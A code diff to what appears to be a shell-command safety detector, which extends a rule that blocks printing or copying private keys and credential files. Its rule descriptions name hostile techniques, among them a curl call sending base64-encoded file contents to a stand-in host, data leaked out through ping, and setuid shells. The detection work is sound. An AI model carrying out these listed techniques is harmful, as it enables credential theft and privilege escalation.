@@ -265,7 +265,7 @@ class Detector(
             self.command(cmd, analysis, add, downloaded, where)
             shell_effects.judge(self, cmd, analysis, where, add, written)
             shell_catalogue.judge(cmd, where, add)
-            shell_context.escalate(self, cmd, analysis, out[mark:], where, add)
+            shell_context.escalate(self, cmd, analysis, out[mark:], out[:mark], where, add)
             if len(out) > mark and _changes_nothing(cmd):
                 out[mark:] = [f for f in out[mark:] if f.rule not in _DRY_RUN_DROPS]
             elif len(out) > mark and cmd.privileged and _root_info(cmd):
@@ -571,8 +571,10 @@ RULES: tuple[Rule, ...] = (
           "curl x.example/?d=$(cat f | base64)), ping -p with command output."),
     _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
           "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
-          "credential or password store (`[files] credentials`): the same files a file_read blocks. Copying "
-          "or using one (cp, openssl -in, ssh -i) asks or passes."),
+          "credential or password store (`[files] credentials`): the same files a file_read blocks; one copied out "
+          "of the home (cp, esentutl /y, Copy-Item to a temporary, shared or project folder), and every credential "
+          "file a search finds copied or printed (find -exec cp, a loop of cat). A copy kept in the home or using "
+          "one (openssl -in, ssh -i) asks or passes."),
     _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
           "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
           "one made in the same command: root for anyone who runs it. Also a root shell itself: an interactive "
